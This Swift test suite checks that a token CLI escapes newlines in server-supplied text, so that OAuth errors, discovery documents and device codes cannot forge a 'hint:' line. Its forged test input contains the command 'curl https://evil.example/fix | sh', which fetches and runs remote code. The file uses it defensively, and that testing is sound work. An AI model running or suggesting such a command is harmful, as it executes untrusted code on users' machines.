import Foundation
import TestSupport
import Testing
import TokenCtlCLI
import TokenKit

/// A server's words reach the user's terminal inside our messages, so their line breaks
/// and control characters are escaped. A server must not be able to print a line that
/// looks like our own `hint:`.
@Suite struct ServerTextCommandTests {
  static let now = CommandSandbox.now
  static let issuer = "https://id.example/"
  static let forged = "hint: the server says run `curl https://evil.example/fix | sh`"

  let sandbox = CommandSandbox()

  init() throws {
    try sandbox.writeConfig("[types.oidc]\nissuer = \"\(Self.issuer)\"\nclient_id = \"tokenctl\"\n")
  }

  static func discovery(issuer: String = issuer) -> HTTPResponse {
    let escaped = issuer.replacingOccurrences(of: "\n", with: "\\n")
    return ScriptedTransport.json(
      200,
      """
      {"issuer":"\(escaped)","authorization_endpoint":"\(Self.issuer)authorize","token_endpoint":"\(Self.issuer)token",\
      "device_authorization_endpoint":"\(Self.issuer)device","code_challenge_methods_supported":["S256"]}
      """)
  }

  func run(_ arguments: [String], transport: ScriptedTransport) async throws -> (status: Int32, stderr: String) {
    let result = try await sandbox.run(arguments, transport: transport)
    return (result.status, result.stderr)
  }

  func seed() throws {
    try sandbox.store.save(
      Account(
        type: "oidc", id: "id.example|ada", name: "ada", group: "default", createdAt: Self.now, updatedAt: Self.now,
        issuer: Self.issuer, clientID: "tokenctl"),
      tokens: TokenSet(accessToken: "AT", refreshToken: "RT", expiresAt: Self.now.addingTimeInterval(-1)))
  }

  /// No line of `stderr` is one the server wrote, and only our one hint starts a line.
  func expectNoForgedLine(_ stderr: String, sourceLocation: SourceLocation = #_sourceLocation) {
    let lines = stderr.split(separator: "\n")
    #expect(!lines.contains { $0.hasPrefix("hint: the server says") }, "\(stderr)", sourceLocation: sourceLocation)
    #expect(lines.filter { $0.hasPrefix("hint:") }.count <= 1, "\(stderr)", sourceLocation: sourceLocation)
    // The server's text is kept: escaped inside our sentence, or, for the lines after an
    // error description's first, on a line of its own that says whose it is.
    #expect(
      stderr.contains("\\u{a}hint: the server says")
        || lines.contains { $0.hasPrefix("The server's reference: hint: the server says") },
      "\(stderr)", sourceLocation: sourceLocation)
  }

  @Test(arguments: [
    #"{"error":"invalid_request\n\#(forged)"}"#,
    #"{"error":"invalid_request","error_description":"bad request\n\#(forged)"}"#,
    #"{"error":"invalid_grant\r\n\#(forged)"}"#,
  ])
  func anOAuthErrorCannotForgeAHint(body: String) async throws {
    try seed()
    let transport = ScriptedTransport { request throws(TransportError) in
      switch request.url.path() {
      case "/.well-known/openid-configuration": return Self.discovery()
      default: return ScriptedTransport.json(400, body)
      }
    }
    let result = try await run(["token", "oidc:ada"], transport: transport)
    #expect(result.status != 0)
    expectNoForgedLine(result.stderr.replacingOccurrences(of: "\\u{d}", with: ""))
  }

  @Test func aDiscoveryDocumentCannotForgeAHint() async throws {
    try seed()
    let transport = ScriptedTransport { _ throws(TransportError) in
      Self.discovery(issuer: "https://other.example/\n\(Self.forged)")
    }
    let result = try await run(["token", "oidc:ada"], transport: transport)
    #expect(result.status == 11)
    expectNoForgedLine(result.stderr)
  }

  @Test func aDeviceCodeCannotForgeALine() async throws {
    let transport = ScriptedTransport { request throws(TransportError) in
      switch request.url.path() {
      case "/.well-known/openid-configuration": return Self.discovery()
      case "/device":
        return ScriptedTransport.json(
          200,
          #"{"device_code":"dc","user_code":"ABCD\n\#(Self.forged)","verification_uri":"https://id.example/device","expires_in":600,"interval":5}"#
        )
      default: return ScriptedTransport.json(400, #"{"error":"authorization_pending"}"#)
      }
    }
    let result = try await run(["login", "oidc", "--device"], transport: transport)
    expectNoForgedLine(result.stderr)
  }
}
